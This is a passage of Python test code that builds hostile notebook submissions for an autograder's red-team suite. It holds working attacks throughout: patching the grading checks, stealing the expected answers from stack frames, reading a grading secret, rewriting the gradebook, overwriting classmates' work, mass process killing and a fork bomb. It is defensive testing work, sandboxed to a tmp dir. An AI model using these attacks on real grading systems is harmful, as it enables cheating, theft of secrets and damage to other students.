"""Hostile submissions for the red-team suite (tests/test_redteam.py).

Each :class:`Attack` turns the released notebook of an assignment into one hostile
submission. ``targets`` are the test cells it tries to win without earning them: they must
score 0 (or, with ``flag``, the copy must appear in the similarity report). ``keeps`` are cells
whose honest answer sits beside the attack and must keep its points.

Every attack is harmless if the sandbox fails: the paths it reads, writes or fills are under
the test's own tmp dir (``ctx.base``), the processes it kills are the test's decoy and
processes whose working directory is in the scratch course, ``os.kill(-1, ...)`` runs only in
a PID namespace (own pid below 30), memory is capped at 3 GB, the disk fill at 1.5 GB, forks at
60, and every sleeping or looping child ends by itself within 150 s.
"""

from __future__ import annotations

import base64
import io
import textwrap
from collections.abc import Callable
from typing import NamedTuple

import numpy as np
from _course_helpers import filled_in, graded_cells, released_notebook, set_cell, solution_cells

import rnncore
from rnncore import grading


class Ctx(NamedTuple):
    """What the attacks know about the grading run (all paths under ``base``)."""

    base: str
    course: str
    secret_file: str
    exchange: str
    pkgroot: str
    decoy_pid: int
    decoy_marker: str


class Attack(NamedTuple):
    name: str
    kind: str  # the attack class of issue 9
    build: Callable  # (assignment, ctx) -> notebook
    targets: tuple = ("*",)  # grade_ids that must score 0 ("*": every test cell)
    keeps: tuple = ()  # grade_ids that must keep full marks
    flag: bool = False  # copied or dynamic code: must be in the similarity report


def dedent(src: str) -> str:
    return textwrap.dedent(src).strip("\n") + "\n"


# --- wrong answers the attacks try to get points for ------------------------------------
WRONG = {
    "rnn_cell_forward": "def rnn_cell_forward(x, h_prev, params):\n    return np.zeros(3), None\n",
    "rnn_forward": "def rnn_forward(X, h0, params):\n    return np.zeros(3), None\n",
    "rnn_cell_backward": (
        "def rnn_cell_backward(dh, cache):\n    return np.zeros(1), np.zeros(1), {}\n"
    ),
    "rnn_backward": "def rnn_backward(dH, cache):\n    return np.zeros(1), np.zeros(1), {}\n",
    "softmax_with_temperature": (
        "def softmax_with_temperature(logits, temperature):\n    return np.zeros(1)\n"
    ),
    "sample_next": "def sample_next(logits, temperature, rng):\n    return 'x'\n",
    "sample_text": (
        "def sample_text(step_fn, vocab, prompt, max_len, temperature, rng):\n    return 0\n"
    ),
    "sequential_minibatches": (
        "def sequential_minibatches(ids, seq_len, batch_size, offset):\n"
        "    return ids[None, :, None], ids[None, :, None]\n"
    ),
    "variational_rnn_forward": (
        "def variational_rnn_forward(X, h0, params, mask_x, mask_h):\n"
        "    return np.zeros(3), None\n"
    ),
    "variational_rnn_backward": (
        "def variational_rnn_backward(dH, cache):\n    return np.zeros(1), np.zeros(1), {}\n"
    ),
    "additive_attention_forward": (
        "def additive_attention_forward(s_prev, H_enc, params, mask=None):\n"
        "    return np.zeros(3), np.zeros(3), None\n"
    ),
    "additive_attention_backward": (
        "def additive_attention_backward(dcontext, dalpha, cache):\n"
        "    return np.zeros(1), np.zeros(1), {}\n"
    ),
    "beam_search": (
        "def beam_search(step_fn, state0, bos_id, eos_id, beam_width, max_len,\n"
        "                length_penalty=0.0):\n    return 0\n"
    ),
}
# right shapes, wrong values (for attacks on the value comparison only)
ZEROS_CELL = """def rnn_cell_forward(x, h_prev, params):
    return np.zeros((x.shape[0], params["W_hh"].shape[0])), (x, h_prev, params)
"""
ZEROS_SEQ = """def rnn_forward(X, h0, params):
    return np.zeros((X.shape[0], X.shape[1], params["W_hh"].shape[0])), None
"""


def functions(assignment):
    return list(solution_cells(filled_in(assignment)))


def wrong_notebook(assignment, extra="", values_only=False):
    """The released notebook with every answer wrong, and ``extra`` after each wrong answer.

    A patch then acts before the first test cell, and functions ``extra`` defines replace
    the wrong ones in every later answer cell too.
    """
    nb = released_notebook(assignment)
    for i, fn in enumerate(functions(assignment)):
        src = WRONG[fn]
        if values_only:
            src = {"rnn_cell_forward": ZEROS_CELL, "rnn_forward": ZEROS_SEQ}[fn]
        set_cell(nb, fn, src + ("\n" + extra if extra and (i == 0 or "def " in extra) else ""))
    return nb


def honest_source(assignment, fn):
    return solution_cells(filled_in(assignment))[fn].source


def with_answer(assignment, fn, source, base=None):
    """``base`` (default: every answer right) with the answer cell ``fn`` replaced."""
    return set_cell(base or filled_in(assignment), fn, source)


# --- patching the checks ----------------------------------------------------------------
def patch_setattr(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import rnncore.grading as _g
        for _name in dir(_g):
            if _name.startswith("check_"):
                setattr(_g, _name, lambda *args, **kwargs: None)
                for _mod in list(vars(_g).values()):
                    if hasattr(_mod, _name):
                        setattr(_mod, _name, lambda *args, **kwargs: None)
        """),
    )


def rebind_grading(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        class _Anything:
            def __getattr__(self, name):
                return lambda *args, **kwargs: None

        grading = _Anything()
        """),
    )


def patch_harness(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        from rnncore._guard import allowing as _allowing
        import rnncore as _r
        import rnncore.grading._driver as _d
        import rnncore.grading._harness as _h

        def _call(fn, args, *, name, **kwargs):
            with _allowing():
                return getattr(_r, name)(*args, **kwargs.get("kwargs", None) or {})

        _h.call = _d.call = _call
        """),
    )


def patch_numpy(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import numpy as _np
        _zeros = _np.zeros_like
        _np.abs = _np.absolute = lambda x, *a, **k: _zeros(_np.asarray(x, dtype=float))
        _np.allclose = lambda *a, **k: True
        _np.isclose = lambda a, b, **k: _np.ones(_np.shape(a), dtype=bool)
        _np.array_equal = lambda *a, **k: True
        _np.testing.assert_allclose = lambda *a, **k: None
        _np.testing.assert_array_equal = lambda *a, **k: None
        """),
        values_only=True,
    )


def patch_builtins(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import builtins

        class _Anything:
            def __getattr__(self, name):
                return lambda *args, **kwargs: None

        builtins.grading = _Anything()
        del globals()["grading"]  # the test cells now find `grading` in builtins
        """),
    )


# --- IPython hooks ----------------------------------------------------------------------
def input_transformer(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        def _neuter(lines):
            return ["pass\\n"] if any("grading." in line for line in lines) else lines

        get_ipython().input_transformers_cleanup.append(_neuter)
        """),
    )


def ipython_events(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        class _Anything:
            def __getattr__(self, name):
                return lambda *args, **kwargs: None

        def _before(*args):
            get_ipython().user_ns["grading"] = _Anything()

        get_ipython().events.register("pre_run_cell", _before)
        """),
    )


def custom_exc(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        """),
    )


def settrace_values(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import sys

        def _tracer(frame, event, arg):
            if "grading" in frame.f_code.co_filename:
                return _local
            return None

        def _local(frame, event, arg):
            loc = frame.f_locals
            if event == "line" and "yours" in loc and "expected" in loc:
                frame.f_locals["yours"] = loc["expected"]
            return _local

        sys.settrace(_tracer)
        import threading
        threading.settrace(_tracer)
        """),
        values_only=True,
    )


# What every frame-reading attack below runs, in the student's process: walk up from a frame
# and take the first local of one of these names that looks like the grader's answer.
FRAME_THIEF = """
import sys

def _from_frames(frame, names, looks_right):
    while frame is not None:
        for name in names:
            value = frame.f_locals.get(name)
            if looks_right(value):
                return value
        frame = frame.f_back
    return None
"""

STEAL_EXPECTED = (
    FRAME_THIEF
    + """
def _stolen(frame):
    exp = _from_frames(frame, ("expected",), lambda e: isinstance(e, (tuple, list)) and e
                       and isinstance(e[0], np.ndarray))
    return None if exp is None else exp[0]
"""
)


def steal_answers(mechanism):
    """Answers that return the grader's own ``expected`` (found through ``mechanism``)."""
    grab = {
        "getframe": "_stolen(sys._getframe(1))",
        "inspect": (
            "next((e for e in (_stolen(f.frame) for f in inspect.stack()) if e is not None), None)"
        ),
    }[mechanism]
    return STEAL_EXPECTED + dedent(
        f"""
        import inspect
        import sys

        def rnn_cell_forward(x, h_prev, params):
            return {grab}.copy(), None

        def rnn_forward(X, h0, params):
            return {grab}.copy(), None
        """
    )


def stack_getframe(a, ctx):
    return wrong_notebook(a, steal_answers("getframe"))


def stack_inspect(a, ctx):
    return wrong_notebook(a, steal_answers("inspect"))


def setprofile_steal(a, ctx):
    return wrong_notebook(
        a,
        STEAL_EXPECTED
        + dedent(
            """
        import sys
        _seen = []

        def _profile(frame, event, arg):
            if event == "call" and frame.f_code.co_name == "call":
                exp = _stolen(frame)
                if exp is not None:
                    _seen.append(exp)

        sys.setprofile(_profile)

        def rnn_cell_forward(x, h_prev, params):
            return _seen[-1].copy(), None

        def rnn_forward(X, h0, params):
            return _seen[-1].copy(), None
        """
        ),
    )


def gc_hunt(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import gc

        def _hunt(inp, shape):
            for obj in gc.get_objects():
                if isinstance(obj, tuple) and len(obj) == 2 and isinstance(obj[0], np.ndarray):
                    fields = getattr(obj[1], "_fields", ())
                    if obj[0].shape == shape and fields:
                        first = getattr(obj[1], fields[0])
                        if isinstance(first, np.ndarray) and first.shape == inp.shape:
                            if np.array_equal(first, inp):
                                return obj[0].copy()
            return np.zeros(1)

        def rnn_cell_forward(x, h_prev, params):
            return _hunt(x, h_prev.shape), None

        def rnn_forward(X, h0, params):
            return _hunt(X, X.shape[:2] + (params["W_hh"].shape[0],)), None
        """),
    )


# --- calling the reference by another route ---------------------------------------------
def reference_route(body: str) -> str:
    """Both ex02 functions computed by ``_ref(name, *args)``, defined by ``body``."""
    return dedent(body) + dedent("""
        def rnn_cell_forward(x, h_prev, params):
            return _ref("rnn_cell_forward", x, h_prev, params), None

        def rnn_forward(X, h0, params):
            return _ref("rnn_forward", X, h0, params), None
        """)


def in_thread(a, ctx):
    return wrong_notebook(
        a,
        reference_route("""
        import threading

        def _ref(name, *args):
            import rnncore
            box = []
            t = threading.Thread(target=lambda: box.append(getattr(rnncore, name)(*args)[0]))
            t.start()
            t.join()
            return box[0]
        """),
    )


SERIAL = """
import io as _io

def _pack(*arrays):
    buf = _io.BytesIO()
    np.savez(buf, *arrays)
    return buf.getvalue()

def _unpack(data):
    with np.load(_io.BytesIO(data), allow_pickle=False) as z:
        return [z[f"arr_{i}"] for i in range(len(z.files))]
"""
CHILD = (
    "import sys, io, numpy as np, rnncore; name = sys.argv[1]; "
    "z = np.load(io.BytesIO(sys.stdin.buffer.read())); "
    "x, h, W_xh, W_hh, b = (z[f'arr_{i}'] for i in range(5)); "
    "out = getattr(rnncore, name)(x, h, dict(W_xh=W_xh, W_hh=W_hh, b_h=b))[0]; "
    "buf = io.BytesIO(); np.save(buf, out); sys.stdout.buffer.write(buf.getvalue())"
)


def in_subprocess(a, ctx):
    return wrong_notebook(
        a,
        reference_route(
            SERIAL
            + dedent(f"""
        import subprocess, sys

        def _ref(name, x, h, p):
            h = np.zeros((x.shape[-2], p["W_hh"].shape[0])) if h is None else h
            data = _pack(x, h, p["W_xh"], p["W_hh"], p["b_h"])
            out = subprocess.run([sys.executable, "-c", {CHILD!r}, name], input=data,
                                 capture_output=True, timeout=60).stdout
            return np.load(_io.BytesIO(out))
        """)
        ),
    )


def in_fork(a, ctx):
    return wrong_notebook(
        a,
        reference_route(
            SERIAL
            + dedent("""
        import os

        def _ref(name, *args):
            r, w = os.pipe()
            pid = os.fork()
            if pid == 0:
                try:
                    import rnncore
                    os.write(w, _pack(getattr(rnncore, name)(*args)[0]))
                finally:
                    os._exit(0)
            os.close(w)
            chunks = []
            while chunk := os.read(r, 1 << 16):
                chunks.append(chunk)
            os.waitpid(pid, 0)
            return _unpack(b"".join(chunks))[0]
        """)
        ),
    )


def in_multiprocessing(a, ctx):
    return wrong_notebook(
        a,
        reference_route("""
        import multiprocessing

        def _work(name, args):
            import rnncore
            return getattr(rnncore, name)(*args)[0]

        def _ref(name, *args):
            with multiprocessing.get_context("fork").Pool(1) as pool:
                return pool.apply(_work, (name, args))
        """),
    )


def second_package(a, ctx):
    return wrong_notebook(
        a,
        reference_route(f"""
        import importlib.util, os, sys

        def _ref(name, *args):
            spec = importlib.util.find_spec("rnncore")
            folder = os.path.dirname(spec.origin) if spec else {ctx.pkgroot + "/rnncore"!r}
            copy = importlib.util.spec_from_file_location(
                "rnncore_twin", os.path.join(folder, "__init__.py"),
                submodule_search_locations=[folder])
            module = importlib.util.module_from_spec(copy)
            sys.modules["rnncore_twin"] = module
            copy.loader.exec_module(module)
            return getattr(module, name)(*args)[0]
        """),
    )


def exec_source(a, ctx):
    return wrong_notebook(
        a,
        reference_route("""
        import inspect

        def _ref(name, *args):
            import rnncore
            fn = getattr(rnncore, name)
            space = dict(fn.__globals__)
            space["guard"] = lambda *a, **k: None
            exec(inspect.getsource(fn), space)
            return space[name](*args)[0]
        """),
    )


# --- memorised answers: the cases reproduced with the package's own checks -------------
DIGEST = """
def _digest(*args):
    import hashlib
    h = hashlib.sha256()

    def feed(v):
        if isinstance(v, np.ndarray):
            h.update(v.dtype.str.encode() + repr(v.shape).encode())
            h.update(np.ascontiguousarray(v).tobytes())
        elif isinstance(v, dict):
            for k in sorted(v):
                h.update(repr(k).encode())
                feed(v[k])
        else:
            h.update(repr(v).encode())

    for a in args:
        feed(a)
    return h.hexdigest()
"""


def memorised_table(names=("rnn_cell_forward", "rnn_forward")) -> dict:
    """``{digest of the inputs: reference output}`` for every visible and hidden case.

    Found as a student would, with the public checks only: a recorder answers from the table
    and raises on an unknown input; the reference (called outside the check) fills that
    input in; repeat until the check passes.
    """
    import os

    try:
        from rnncore.grading._secret import SECRET_ENV
    except ImportError:  # a grader from before the instructor secret
        SECRET_ENV = "RNNBOOK_GRADING_SECRET_FILE"

    saved = os.environ.get(SECRET_ENV)
    os.environ[SECRET_ENV] = "/nonexistent/rnnbook-redteam-no-secret"  # a student has none
    try:
        return _memorise(names)
    finally:
        if saved is None:
            del os.environ[SECRET_ENV]
        else:
            os.environ[SECRET_ENV] = saved


def _memorise(names):
    space = {"np": np}
    exec(DIGEST, space)  # the same function the notebook uses
    digest, table = space["_digest"], {}
    for name in names:
        check = getattr(grading, f"check_{name}")
        pending: list = []

        def recorder(*args, pending=pending):
            key = digest(*args)
            if key in table:
                return table[key].copy(), None
            pending.append(tuple(a.copy() if hasattr(a, "copy") else a for a in args))
            raise ValueError("unknown case")

        for hidden in (False, True):
            for _ in range(60 if not hidden else 12):
                pending.clear()
                try:
                    check(recorder, hidden=hidden)
                    break
                except AssertionError:
                    if not pending:
                        break
                    for args in pending:
                        table[digest(*args)] = getattr(rnncore, name)(*args)[0]
                except Exception:  # noqa: BLE001 - e.g. hidden cases refused without the secret
                    break
    return table


def memorised(a, ctx):
    table = memorised_table()
    buf = io.BytesIO()
    np.savez_compressed(buf, **{f"k{k}": v for k, v in table.items()})
    blob = base64.b64encode(buf.getvalue()).decode()
    return wrong_notebook(
        a,
        DIGEST
        + dedent(f"""
        import base64, io
        _z = np.load(io.BytesIO(base64.b64decode({blob!r})), allow_pickle=False)
        _table = {{k[1:]: _z[k] for k in _z.files}}

        def rnn_cell_forward(x, h_prev, params):
            return _table.get(_digest(x, h_prev, params), np.zeros(1)).copy(), None

        def rnn_forward(X, h0, params):
            return _table.get(_digest(X, h0, params), np.zeros(1)).copy(), None
        """),
    )


# --- damage -----------------------------------------------------------------------------
def gradebook_trigger(a, ctx):
    return wrong_notebook(
        a,
        dedent(f"""
        import os, sqlite3
        for _db in ({ctx.course + "/gradebook.db"!r}, "../../../gradebook.db"):
            try:
                _con = sqlite3.connect(_db, timeout=5)
                _con.executescript('''
                    CREATE TRIGGER IF NOT EXISTS rt_ins AFTER INSERT ON grade
                    BEGIN UPDATE grade SET manual_score = 396 WHERE id = NEW.id; END;
                    CREATE TRIGGER IF NOT EXISTS rt_upd AFTER UPDATE OF auto_score ON grade
                    BEGIN UPDATE grade SET manual_score = 396 WHERE id = NEW.id; END;
                    UPDATE grade SET manual_score = 396;
                ''')
                _con.commit()
            except Exception as err:
                print("gradebook:", type(err).__name__)
        """),
    )


def overwrite_classmate(a, ctx):
    return wrong_notebook(
        a,
        dedent(f"""
        import glob, json, os
        for _pattern in ("submitted/full/*/*.ipynb", "autograded/full/*/*.ipynb",
                         "submitted/partial/*/*.ipynb", "autograded/partial/*/*.ipynb"):
            for _root in ({ctx.course!r}, "../../.."):
                for _path in glob.glob(os.path.join(_root, _pattern)):
                    try:
                        _nb = json.load(open(_path))
                        for _c in _nb["cells"]:
                            if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                                _c["source"] = "raise NotImplementedError()"
                        json.dump(_nb, open(_path, "w"))
                    except Exception as err:
                        print("classmate:", type(err).__name__)
        """),
    )


def append_code(a, ctx):
    return wrong_notebook(
        a,
        dedent(f"""
        import glob, importlib.util, os
        _base = {ctx.base!r}
        _targets = [{ctx.course + "/nbgrader_config.py"!r}, "../../../nbgrader_config.py"]
        _spec = importlib.util.find_spec("rnncore")
        _found = os.path.dirname(_spec.origin) if _spec else ""
        for _folder in ({ctx.pkgroot + "/rnncore"!r}, _found):
            _targets += glob.glob(os.path.join(_folder, "grading", "*.py"))
        for _path in _targets:
            if os.path.realpath(_path).startswith(_base):  # never outside the test's tmp dir
                try:
                    with open(_path, "a") as _f:
                        _f.write("\\n# appended by a student\\n")
                except Exception as err:
                    print("append:", type(err).__name__)
        """),
    )


def kill_others(a, ctx):
    return wrong_notebook(
        a,
        dedent(f"""
        import os, signal, subprocess, time
        _course = {ctx.course!r}
        if os.getpid() < 30:  # only inside a PID namespace: kill everything it can see
            try:
                os.kill(-1, signal.SIGKILL)
            except Exception as err:
                print("kill -1:", type(err).__name__)
        for _cmd in ([ "pkill", "-9", "-f", {ctx.decoy_marker!r}],):
            try:
                subprocess.run(_cmd, timeout=5)
            except Exception as err:
                print("pkill:", type(err).__name__)
        try:
            os.kill({ctx.decoy_pid}, signal.SIGKILL)
        except Exception as err:
            print("decoy:", type(err).__name__)
        _end = time.time() + 8
        while time.time() < _end:  # the other students' kernels and graders, for 8 s
            for _pid in os.listdir("/proc"):
                if _pid.isdigit() and int(_pid) != os.getpid():
                    try:
                        if os.readlink(f"/proc/{{_pid}}/cwd").startswith(_course):
                            os.kill(int(_pid), signal.SIGKILL)
                    except Exception:
                        pass
            time.sleep(0.2)
        """),
    )


def read_secret(a, ctx):
    steal = dedent(f"""
        import os
        _secret = ""
        for _path in ({ctx.secret_file!r}, os.path.expanduser("~/.config/rnnbook/grading-secret"),
                      os.environ.get("RNNBOOK_GRADING_SECRET_FILE", "")):
            try:
                _secret += open(_path).read()
            except Exception as err:
                print("secret:", type(err).__name__)
        """)
    nb = wrong_notebook(
        a,
        steal
        + dedent("""
        import sys
        print("SECRET", _secret)
        print("SECRET", _secret, file=sys.stderr)
        open("stolen.txt", "w").write(_secret)

        def rnn_cell_forward(x, h_prev, params):
            raise RuntimeError("SECRET " + _secret)
        """),
    )
    return nb


def hold_pipe(a, ctx):
    return wrong_notebook(
        a,
        dedent("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(150)  # holding stdout and stderr of the kernel; ends by itself
            os._exit(0)
        time.sleep(0.2)
        """),
    )


def write_exchange(a, ctx):
    return wrong_notebook(
        a,
        dedent(f"""
        import glob, os
        for _root in ({ctx.exchange!r}, os.environ.get("RNNBOOK_EXCHANGE", "")):
            if _root.startswith({ctx.base!r}):
                try:
                    open(os.path.join(_root, "planted.txt"), "w").write("x")
                    for _path in glob.glob(os.path.join(_root, "**", "*.ipynb"), recursive=True):
                        open(_path, "a").write(" ")
                except Exception as err:
                    print("exchange:", type(err).__name__)
        """),
    )


# --- limits (inside rnn_forward: rnn_cell_forward stays right and keeps its points) ---------
def in_rnn_forward(body: str):
    def build(a, ctx):
        src = dedent(body) + "\n" + honest_source(a, "rnn_forward")
        return with_answer(
            a,
            "rnn_forward",
            src.replace("    T, N, _ = X.shape", "    _limit()\n    T, N, _ = X.shape", 1),
        )

    return build


SIGINT_LOOP = """
import signal, time

def _limit():
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    end = time.time() + 150
    while time.time() < end:
        pass
"""
MEMORY = """
def _limit():
    blocks = []
    for _ in range(12):  # 12 x 256 MB = 3 GB, every page touched
        blocks.append(np.ones(32 * 1024 * 1024))
    blocks.clear()
"""
PRINT_100MB = """
import sys

def _limit():
    line = "x" * 1023 + "\\n"
    for _ in range(100 * 1024):
        sys.stdout.write(line)
"""
FORK_BOMB = """
import os, time

def _limit():
    for _ in range(60):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
"""
DISK_FILL = """
def _limit():
    block = b"\\0" * (64 << 20)
    with open("filler.bin", "wb") as f:
        for _ in range(24):  # 1.5 GB
            f.write(block)
"""
SEGFAULT = """
import ctypes

def _limit():
    ctypes.string_at(0)
"""


def exit_in_cell(a, ctx):
    return with_answer(
        a, "rnn_forward", honest_source(a, "rnn_forward") + "\nimport os\nos._exit(0)\n"
    )


def exit_in_function(a, ctx):
    nb = wrong_notebook(a)
    src = honest_source(a, "rnn_cell_forward").replace(
        "    pre_activation =", "    import sys\n    sys.exit(0)\n    pre_activation =", 1
    )
    return set_cell(nb, "rnn_cell_forward", src)


# --- tampering --------------------------------------------------------------------------
def tamper_tests(a, ctx):
    nb = wrong_notebook(a)
    for cell in graded_cells(nb).values():
        cell.source = "pass"
        cell.metadata.nbgrader["points"] = 100
    return nb


def tamper_grade_false(a, ctx):
    nb = wrong_notebook(a)
    for cell in graded_cells(nb).values():
        cell.metadata.nbgrader["grade"] = False
        cell.metadata.nbgrader["grade_id"] += "_x"
    return nb


def fake_grade_cell(a, ctx):
    from nbformat.v4 import new_code_cell

    nb = wrong_notebook(a)
    cell = new_code_cell("print('✓ bonus')")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    nb.cells.append(cell)
    return nb


def fake_outputs(a, ctx):
    from nbformat.v4 import new_output

    nb = wrong_notebook(a)
    for i, cell in enumerate(graded_cells(nb).values()):
        cell.execution_count = 10 + i
        cell.outputs = [new_output("stream", name="stdout", text="✓ all checks passed\n")]
    return nb


def no_cells(a, ctx):
    nb = released_notebook(a)
    nb.cells = []
    return nb


INVALID_JSON = object()  # marker: the submission file is not JSON at all


def invalid_json(a, ctx):
    return INVALID_JSON


# --- copying (cannot be stopped, must be flagged) -----------------------------------------
def pasted_reference(a, ctx):
    """ex04: rnncore's rnn_cell_backward pasted from inspect.getsource, adapted to run."""
    import inspect

    src = inspect.getsource(rnncore.rnn_cell_backward)
    body = [ln for ln in src.splitlines() if "guard(" not in ln and "_check_dh" not in ln]
    src = "\n".join(body).replace(
        "x, h_prev, h, W_xh, W_hh = cache",
        'x, h_prev, h, params = cache\n    W_xh, W_hh = params["W_xh"], params["W_hh"]',
    )
    return with_answer(a, "rnn_cell_backward", src)


ATTACKS = {
    "ex02_rnn_cell": [
        Attack("patch_setattr", "patching the checks", patch_setattr),
        Attack("rebind_grading", "patching the checks", rebind_grading),
        Attack("patch_harness", "patching the checks", patch_harness),
        Attack("patch_numpy", "patching the checks", patch_numpy, targets=("*_values",)),
        Attack("patch_builtins", "patching the checks", patch_builtins),
        Attack("input_transformer", "IPython hooks", input_transformer),
        Attack("ipython_events", "IPython hooks", ipython_events),
        Attack("custom_exc", "IPython hooks", custom_exc),
        Attack("settrace_values", "IPython hooks", settrace_values, targets=("*_values",)),
        Attack("setprofile_steal", "stack inspection", setprofile_steal),
        Attack("stack_getframe", "stack inspection", stack_getframe),
        Attack("stack_inspect", "stack inspection", stack_inspect),
        Attack("gc_hunt", "stack inspection", gc_hunt),
        Attack("in_thread", "reference by another route", in_thread),
        Attack("in_subprocess", "reference by another route", in_subprocess),
        Attack("in_fork", "reference by another route", in_fork),
        Attack("in_multiprocessing", "reference by another route", in_multiprocessing),
        Attack("second_package", "reference by another route", second_package, flag=True),
        Attack("exec_source", "reference by another route", exec_source, flag=True),
        Attack("memorised", "memorised answers", memorised),
        Attack("gradebook_trigger", "damage", gradebook_trigger),
        Attack("overwrite_classmate", "damage", overwrite_classmate),
        Attack("append_code", "damage", append_code),
        Attack("kill_others", "damage", kill_others),
        Attack("read_secret", "damage", read_secret),
        Attack("hold_pipe", "damage", hold_pipe),
        Attack("write_exchange", "damage", write_exchange),
        Attack(
            "sigint_loop",
            "limits",
            in_rnn_forward(SIGINT_LOOP),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack(
            "memory_3gb",
            "limits",
            in_rnn_forward(MEMORY),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack(
            "print_100mb",
            "limits",
            in_rnn_forward(PRINT_100MB),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack(
            "fork_bomb",
            "limits",
            in_rnn_forward(FORK_BOMB),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack(
            "disk_fill",
            "limits",
            in_rnn_forward(DISK_FILL),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack(
            "segfault",
            "limits",
            in_rnn_forward(SEGFAULT),
            ("rnn_forward_*",),
            ("rnn_cell_forward_*",),
        ),
        Attack("exit_in_cell", "limits", exit_in_cell, ("rnn_forward_*",)),
        Attack("exit_in_function", "limits", exit_in_function),
        Attack("tamper_tests", "tampering", tamper_tests),
        Attack("tamper_grade_false", "tampering", tamper_grade_false),
        Attack("fake_grade_cell", "tampering", fake_grade_cell),
        Attack("fake_outputs", "tampering", fake_outputs),
        Attack("no_cells", "tampering", no_cells),
        Attack("invalid_json", "tampering", invalid_json),
    ],
}


# --- ex04: backward passes ----------------------------------------------------------------
STEAL_BACKWARD = (
    FRAME_THIEF
    + """
def _stolen_backward():
    exp = _from_frames(sys._getframe(2), ("exp_grads", "expected"),
                       lambda e: isinstance(e, (tuple, list)) and len(e) == 3)
    if exp is None:
        return None
    dx, dh, grads = exp
    return dx.copy(), dh.copy(), {k: v.copy() for k, v in grads.items()}

def rnn_cell_backward(dh, cache):
    return _stolen_backward()

def rnn_backward(dH, cache):
    return _stolen_backward()
"""
)


def bptt_steal(a, ctx):
    return wrong_notebook(a, dedent(STEAL_BACKWARD))


BPTT_REFERENCE = """
import threading

def _in_thread(work):
    box = []
    t = threading.Thread(target=lambda: box.append(work()))
    t.start()
    t.join()
    return box[0]

def rnn_cell_backward(dh, cache):
    import rnncore
    x, h_prev, h, params = cache
    return _in_thread(lambda: rnncore.rnn_cell_backward(
        dh, rnncore.rnn_cell_forward(x, h_prev, params)[1]))

def rnn_backward(dH, cache):
    import rnncore
    X = np.stack([c[0] for c in cache])
    h0, params = cache[0][1], cache[0][3]
    return _in_thread(lambda: rnncore.rnn_backward(dH, rnncore.rnn_forward(X, h0, params)[1]))
"""


def bptt_thread(a, ctx):
    return wrong_notebook(a, dedent(BPTT_REFERENCE))


def bptt_fork(a, ctx):
    fork = BPTT_REFERENCE.replace(
        "import threading",
        "import os, pickle",
    ).replace(
        """def _in_thread(work):
    box = []
    t = threading.Thread(target=lambda: box.append(work()))
    t.start()
    t.join()
    return box[0]""",
        """def _in_thread(work):  # in a forked child, really
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(w, pickle.dumps(work()))  # the student's own pickle, in the student's process
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 1 << 16):
        data += chunk
    os.waitpid(pid, 0)
    return pickle.loads(data)""",
    )
    return wrong_notebook(a, dedent(fork))


def copy_model(a, ctx):
    """ex04: the model answer and rnncore's cell, renamed and reordered (tests' variants)."""
    from _similarity_variants import COPY_MODEL_SEQUENCE, COPY_REFERENCE_CELL

    nb = with_answer(a, "rnn_cell_backward", COPY_REFERENCE_CELL)
    return set_cell(nb, "rnn_backward", COPY_MODEL_SEQUENCE)


# --- ex09: callbacks into the grader -------------------------------------------------------
def callback_globals(a, ctx):
    nb = filled_in(a)
    return set_cell(
        nb,
        "sample_text",
        dedent("""
        def sample_text(step_fn, vocab, prompt, max_len, temperature, rng):
            # the grader's own namespace, reached through the model it passed in
            space = getattr(step_fn, "__globals__", {})
            driver = getattr(space.get("check_function"), "__globals__", {})
            for ns in (space, driver):
                for name in ("values", "compare"):
                    if name in ns:
                        ns[name] = lambda *args, **kwargs: None
            return prompt + "zzz"
        """),
    )


def callback_steal(a, ctx):
    nb = filled_in(a)
    return set_cell(
        nb,
        "sample_text",
        FRAME_THIEF
        + dedent("""
        def sample_text(step_fn, vocab, prompt, max_len, temperature, rng):
            exp = _from_frames(sys._getframe(1), ("expected",),
                               lambda e: isinstance(e, tuple) and e and isinstance(e[0], str))
            return exp[0] if exp else 0
        """),
    )


# --- the process boundary (own additions) -------------------------------------------------
def huge_return(a, ctx):
    """Answers whose return values are cheap to make and huge to send (or to unpack)."""
    return wrong_notebook(
        a,
        dedent("""
        def rnn_cell_forward(x, h_prev, params):
            return np.broadcast_to(np.float64(0), (200000, 200000)), None

        def rnn_forward(X, h0, params):
            deep = []
            for _ in range(100000):
                deep = [deep]
            return deep, deep
        """),
    )


def symlink_plant(a, ctx):
    """Symlinks in the working directory, named like what the grader writes there next."""
    return wrong_notebook(
        a,
        dedent(f"""
        import os
        _victim = {ctx.course + "/submitted/full/" + a + "/" + a + ".ipynb"!r}
        for _name, _target in (({a + ".ipynb"!r}, _victim),
                               ({a + ".html"!r}, _victim),
                               ("nbgrader_config.py", {ctx.course + "/nbgrader_config.py"!r}),
                               ("gradebook.db", {ctx.course + "/gradebook.db"!r})):
            try:
                if os.path.realpath(os.getcwd()).startswith({ctx.base!r}):
                    os.symlink(_target, _name + ".tmp")
                    os.replace(_name + ".tmp", _name)
            except Exception as err:
                print("symlink:", type(err).__name__)
        """),
    )


def callback_flood(a, ctx):
